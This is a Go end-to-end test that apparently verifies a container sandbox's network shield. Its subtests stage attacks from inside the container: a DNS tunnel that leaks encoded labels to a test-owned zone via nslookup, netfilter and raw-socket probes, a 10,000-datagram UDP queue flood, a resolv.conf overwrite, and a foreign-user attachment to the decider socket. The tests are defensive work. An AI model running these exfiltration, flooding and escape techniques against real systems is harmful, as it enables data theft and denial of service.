//go:build e2e

package e2e

// The hostile task against this session's new surfaces (docs/security-model.md):
// a container in interactive or learn mode, real podman, rootful and
// rootless, an upstream DNS server of the test's own in an outside netns.
// Each subtest is an attack that must fail, and each would pass if it
// succeeded.

import (
	"bufio"
	"context"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"terok.dev/sandbox/common/shieldbundle"
	"terok.dev/sandbox/common/testkit"
	"terok.dev/sandbox/runner/internal/testharness"
)

const (
	// atkZone is the task's own zone: the outside DNS server answers
	// every name below it NXDOMAIN and logs it (the tunnel's far end).
	atkZone = "tun.atk-e2e.example"
)

var atkQueryLine = regexp.MustCompile(`query\[([A-Za-z0-9]+)\] (\S+) from `)

// atkQueries reads the outside DNS server's query log: "TYPE name" -> count.
func atkQueries(t *testing.T, log string) map[string]int {
	t.Helper()
	f, err := os.Open(log)
	if err != nil {
		return map[string]int{}
	}
	defer f.Close()
	n := map[string]int{}
	sc := bufio.NewScanner(f)
	for sc.Scan() {
		if m := atkQueryLine.FindStringSubmatch(sc.Text()); m != nil {
			n[m[1]+" "+strings.ToLower(strings.TrimSuffix(m[2], "."))]++
		}
	}
	return n
}

// atkRecords reads the container's refused.jsonl (with its rotations).
func atkRecords(t *testing.T, stateDir string) []map[string]any {
	t.Helper()
	var out []map[string]any
	for _, f := range []string{"refused.jsonl.2", "refused.jsonl.1", "refused.jsonl"} {
		data, err := os.ReadFile(filepath.Join(stateDir, f))
		if err != nil {
			continue
		}
		for _, l := range strings.Split(string(data), "\n") {
			var m map[string]any
			if json.Unmarshal([]byte(l), &m) == nil {
				out = append(out, m)
			}
		}
	}
	return out
}

func atkHasRecord(t *testing.T, stateDir string, ok func(m map[string]any) bool) bool {
	for _, m := range atkRecords(t, stateDir) {
		if ok(m) {
			return true
		}
	}
	return false
}

// atkResolverPID is the pid of the container's resolver (its argv names
// the shield state directory).
func atkResolverPID(t *testing.T, stateDir string) int {
	t.Helper()
	for _, p := range escProcs(stateDir) {
		f := strings.Fields(p)
		if len(f) > 2 && filepath.Base(f[1]) == "terok-shield-hook" && strings.Contains(p, " resolver ") {
			if pid, err := strconv.Atoi(strings.TrimSuffix(f[0], ":")); err == nil {
				return pid
			}
		}
	}
	t.Fatalf("no resolver process for %s", stateDir)
	return 0
}

// atkRSS is a process's resident set in KiB.
func atkRSS(t *testing.T, pid int) int {
	t.Helper()
	b, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", pid))
	if err != nil {
		t.Fatal(err)
	}
	for _, l := range strings.Split(string(b), "\n") {
		if rest, ok := strings.CutPrefix(l, "VmRSS:"); ok {
			n, _ := strconv.Atoi(strings.TrimSuffix(strings.TrimSpace(rest), " kB"))
			return n
		}
	}
	t.Fatalf("no VmRSS for %d", pid)
	return 0
}

func TestAttackModes(t *testing.T) {
	env := H(t)
	out, _, addrs := shxNewNetnsHost(t, 2)
	dnsIP, sinkIP := addrs[0], addrs[1]
	queryLog := filepath.Join(t.TempDir(), "queries.log")
	out.daemon(t, "dnsmasq", "--keep-in-foreground", "--conf-file=/dev/null", "--no-resolv", "--no-hosts",
		"--listen-address="+dnsIP, "--bind-interfaces", "--port=53", "--pid-file=",
		"--log-queries", "--log-facility="+queryLog, "--address=/"+atkZone+"/")
	shxWaitFor(t, 10*time.Second, "outside DNS server", func() bool {
		return exec.Command("dig", "+time=1", "+tries=1", "@"+dnsIP, "ready."+atkZone).Run() == nil
	})

	env.Each(t, func(t *testing.T, r *testharness.Runner) {
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
		defer cancel()
		shxShieldRunner(t, ctx, r)
		gate := shxNewHostService(t)
		shxProfileConfig(t, r, gate.port, "atk", "listed.atk-e2e.example\n")
		if err := r.WriteConfig(fmt.Sprintf("gate_port = %d\nproxy_port = %d\nssh_agent_port = %d\nshield_profiles = [\"atk\"]\nshield_upstream_dns = %q\nshield_decide_timeout = \"2s\"\n",
			gate.port, testkit.FreePort(t), testkit.FreePort(t), dnsIP)); err != nil {
			t.Fatal(err)
		}
		probeDir := filepath.Join(r.Base, "probe")
		if err := r.Mkdir(probeDir, 0o755); err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() {
			cctx, ccancel := context.WithTimeout(context.Background(), 2*time.Minute)
			defer ccancel()
			testharness.CleanupPrefix(cctx, r, r.Prefix)
		})

		for _, mode := range []string{shieldbundle.ModeInteractive, shieldbundle.ModeLearn} {
			t.Run(mode, func(t *testing.T) {
				name := r.Name("atk-" + mode[:5])
				shxSandboxOK(t, ctx, r, "run", "--shield-mode", mode, "--name", name, "--image", env.Image,
					"-v", probeDir+":/probe:ro", "--", "sleep", "600")
				defer r.Sandbox(ctx, "stop", name)
				stateDir := filepath.Join(r.Dirs.State, "tasks", name, "shield")

				// The escape routes' socket families (issue 11 part 5) stay
				// closed whatever the shield's mode: the seccomp profile is
				// the same for every launch.
				t.Run("socket families", func(t *testing.T) {
					escSocketFamilies(t, ctx, &escRunner{r: r, probeDir: probeDir}, name)
				})

				// Netfilter from inside: binding the queue that holds
				// connections for the decider (a task holding it would
				// accept its own), the NFLOG group of the records,
				// deleting the shield's table, a raw socket, a packet mark
				// (SO_MARK: the resolver's or the refused mark). All need
				// CAP_NET_ADMIN / CAP_NET_RAW over the container's netns,
				// which its root must not have, whatever the mode.
				t.Run("netfilter from inside", func(t *testing.T) {
					escBuildProbe(t, ctx, "nfprobe", filepath.Join(probeDir, "nfprobe"))
					for _, user := range []string{"0:0", "1000:1000"} {
						res := r.Podman(ctx, "exec", "--user", user, name, "/probe/nfprobe")
						var got map[string]string
						if res.Code != 0 || json.Unmarshal([]byte(res.Stdout), &got) != nil || len(got) != 5 {
							t.Fatalf("nfprobe as %s: %s", user, res)
						}
						for what, outcome := range got {
							// Refused by the kernel for want of the
							// capability, or before that: the seccomp
							// profile refuses a NETLINK_NETFILTER socket.
							if outcome != "EPERM" && !strings.HasPrefix(outcome, "socket: ") {
								t.Errorf("as %s: %s = %s, want EPERM or no socket", user, what, outcome)
							}
						}
						t.Logf("as %s: %v", user, got)
					}
					rules := shxSandboxOK(t, ctx, r, "shield", "rules", name)
					if !strings.Contains(rules, "terok_shield") || (mode == shieldbundle.ModeInteractive && !iaQueues(rules)) {
						t.Errorf("the shield's table is changed after the probe:\n%s", rules)
					}
				})

				// A DNS channel: data in the labels of a name under the
				// task's own zone. Interactive and learn mode forward it
				// (the upstream log proves the channel exists), so it must
				// be on record.
				t.Run("dns tunnel on record", func(t *testing.T) {
					id := shxRandID(t)
					leak := "mfrggzdfmzzwq2lk-" + id + "." + atkZone
					shxInContainer(ctx, r, name, "timeout 15 nslookup "+leak)
					shxWaitFor(t, 10*time.Second, "the tunnel query at the upstream", func() bool {
						return atkQueries(t, queryLog)["A "+leak] > 0
					})
					shxWaitFor(t, 10*time.Second, "a dns-forwarded record of the tunnel query", func() bool {
						return atkHasRecord(t, stateDir, func(m map[string]any) bool {
							return m["event"] == "dns-forwarded" && m["name"] == leak && m["qtype"] == "A" && m["rcode"] != nil
						})
					})
					txt := "txt-" + id + "." + atkZone
					shxInContainer(ctx, r, name, "timeout 15 nslookup -type=txt "+txt)
					if mode == shieldbundle.ModeInteractive {
						// Not forwarded, refused on record as in enforce mode.
						shxWaitFor(t, 10*time.Second, "a dns-refused record of the TXT question", func() bool {
							return atkHasRecord(t, stateDir, func(m map[string]any) bool {
								return m["event"] == "dns-refused" && m["name"] == txt && m["qtype"] == "TXT"
							})
						})
						if n := atkQueries(t, queryLog)["TXT "+txt]; n != 0 {
							t.Errorf("interactive mode forwarded an unlisted TXT question %d times", n)
						}
						return
					}
					shxWaitFor(t, 10*time.Second, "a dns-forwarded record of the learn-mode TXT question", func() bool {
						return atkHasRecord(t, stateDir, func(m map[string]any) bool {
							return m["event"] == "dns-forwarded" && m["name"] == txt && m["qtype"] == "TXT"
						})
					})
				})

				if mode != shieldbundle.ModeInteractive {
					return
				}
				sock := filepath.Join(stateDir, shieldbundle.FileDeciderSocket)
				if _, err := os.Stat(sock); err != nil {
					t.Fatalf("the decider socket is missing on the host: %v", err)
				}

				// The decider socket approves connections: the task must
				// not reach it. Nothing of the shield's state is mounted,
				// and no socket of that name is anywhere in the container.
				t.Run("decider socket out of reach of the container", func(t *testing.T) {
					res := shxInContainer(ctx, r, name, "find / -path /proc -prune -o -path /sys -prune -o -type s -print 2>/dev/null")
					if strings.Contains(res.Stdout, shieldbundle.FileDeciderSocket) {
						t.Errorf("a decider socket is visible in the container: %s", res)
					}
					// The one mount of the shield's state is resolv.conf: a
					// file (no directory, so no socket beside it), read-only.
					ins := r.Podman(ctx, "inspect", "--format", "{{range .Mounts}}{{.Source}}|{{.RW}} {{end}}", name)
					if ins.Code != 0 {
						t.Fatalf("inspect: %s", ins)
					}
					for _, m := range strings.Fields(ins.Stdout) {
						src, rw, _ := strings.Cut(m, "|")
						if !strings.HasPrefix(stateDir+"/", src+"/") && !strings.HasPrefix(src+"/", stateDir+"/") {
							continue
						}
						if st, err := os.Stat(src); err != nil || st.IsDir() || rw != "false" || filepath.Base(src) != "resolv.conf" {
							t.Errorf("the container mounts %s (rw %s) of the shield state %s", src, rw, stateDir)
						}
					}
					if res := shxInContainer(ctx, r, name, "echo nameserver 198.51.100.254 >> /etc/resolv.conf"); res.Code == 0 {
						t.Errorf("the container's root wrote the shield's resolv.conf: %s", res)
					}
				})

				// Queue flooding: 10,000 datagrams to distinct destinations
				// while a decider is attached that never answers. The held
				// packets are bounded by the queue (64), so are the open
				// questions, the resolver's memory and the record file;
				// every datagram is on record (decided or dropped); the
				// resolver keeps answering, and a connection made after the
				// flood is still shown.
				t.Run("queue flood", func(t *testing.T) {
					escBuildProbe(t, ctx, "udpflood", filepath.Join(probeDir, "udpflood"))
					pid := atkResolverPID(t, stateDir)
					rss0 := atkRSS(t, pid)
					ia := &iaEnv{t: t, ctx: ctx, r: r, name: name, stateDir: stateDir}
					d := ia.decider(t)
					var mu sync.Mutex
					var shown []shieldbundle.Held
					go func() {
						for h := range d.held {
							mu.Lock()
							shown = append(shown, h)
							mu.Unlock()
						}
					}()
					start := time.Now()
					res := r.Podman(ctx, "exec", "--user", "1000:1000", name, "/probe/udpflood", "-host", sinkIP, "-n", "10000")
					if res.Code != 0 {
						t.Fatalf("flood: %s", res)
					}
					elapsed := time.Since(start)
					// Every question of the flood is past its 2 s timeout.
					time.Sleep(3 * time.Second)
					mu.Lock()
					n := len(shown)
					mu.Unlock()
					rounds := int(elapsed/(2*time.Second)) + 2
					t.Logf("flood: %s in %v; %d questions shown (bound %d x %d); resolver RSS %d -> %d KiB",
						strings.TrimSpace(res.Stdout), elapsed.Round(time.Millisecond), n, 64, rounds, rss0, atkRSS(t, pid))
					if n > 64*rounds {
						t.Errorf("%d questions shown during a %v flood: more than 64 open at a time", n, elapsed)
					}
					if rss := atkRSS(t, pid); rss > rss0+32<<10 {
						t.Errorf("resolver RSS grew from %d to %d KiB under the flood", rss0, rss)
					}
					var size int64
					for _, f := range []string{"refused.jsonl", "refused.jsonl.1", "refused.jsonl.2"} {
						if st, err := os.Stat(filepath.Join(stateDir, f)); err == nil {
							size += st.Size()
						}
					}
					if size > 3<<20 {
						t.Errorf("refused.jsonl and its rotations hold %d bytes, bound 3 MiB", size)
					}
					// Every datagram is on record: the 64 held as timed-out
					// decisions, what the kernel dropped from the full queue
					// as dropped attempts.
					// Rootless, the kernel's queue table belongs to the
					// host's root and cannot be read (docs/shield-resolver.md,
					// Interactive approval): the resolver says so, and the
					// drops are in no record.
					want := 10000.0
					if r.User != nil {
						want = 64
						if iaLogCount(stateDir, "packets dropped from a full queue will not be counted") == 0 {
							t.Errorf("rootless: drops are neither counted nor said to be uncounted")
						}
					}
					var decided, dropped float64
					shxWaitFor(t, 15*time.Second, "the flood on record", func() bool {
						decided, dropped = 0, 0
						for _, m := range atkRecords(t, stateDir) {
							if d, ok := m["dropped"].(float64); ok {
								dropped += d
							}
							if m["event"] == "decision" && m["dst"] == sinkIP {
								c, _ := m["count"].(float64)
								decided += c
							}
						}
						return decided+dropped >= want
					})
					t.Logf("flood on record: %v decided, %v dropped", decided, dropped)
					if q := shxInContainer(ctx, r, name, "timeout 15 nslookup after-flood."+atkZone); !strings.Contains(q.Stdout+q.Stderr, "NXDOMAIN") {
						t.Errorf("the resolver does not answer after the flood: %s", q)
					}
					conn := r.Podman(ctx, "exec", "-d", name, "sh", "-c", "nc -w 3 "+sinkIP+" 4711 </dev/null")
					if conn.Code != 0 {
						t.Fatalf("connect: %s", conn)
					}
					shxWaitFor(t, 20*time.Second, "the connection after the flood shown to the decider", func() bool {
						mu.Lock()
						defer mu.Unlock()
						for _, h := range shown[n:] {
							if h.Dst == sinkIP && h.Port == 4711 && h.Proto == "tcp" {
								return true
							}
						}
						return false
					})
					d.detach(t)
				})

				// Another local user attaching a decider of its own.
				t.Run("decider socket refuses another user", func(t *testing.T) {
					cmd := exec.CommandContext(ctx, "setpriv", "--reuid", "65534", "--regid", "65534", "--clear-groups",
						"socat", "-T", "3", "STDIO", "UNIX-CONNECT:"+sock)
					cmd.Stdin = strings.NewReader("")
					b, err := cmd.CombinedOutput()
					if err == nil && !strings.Contains(string(b), `"error"`) {
						t.Errorf("uid 65534 attached to the decider socket: %s", b)
					}
					t.Logf("uid 65534: %v %s", err, b)
				})
			})
		}
	})
}
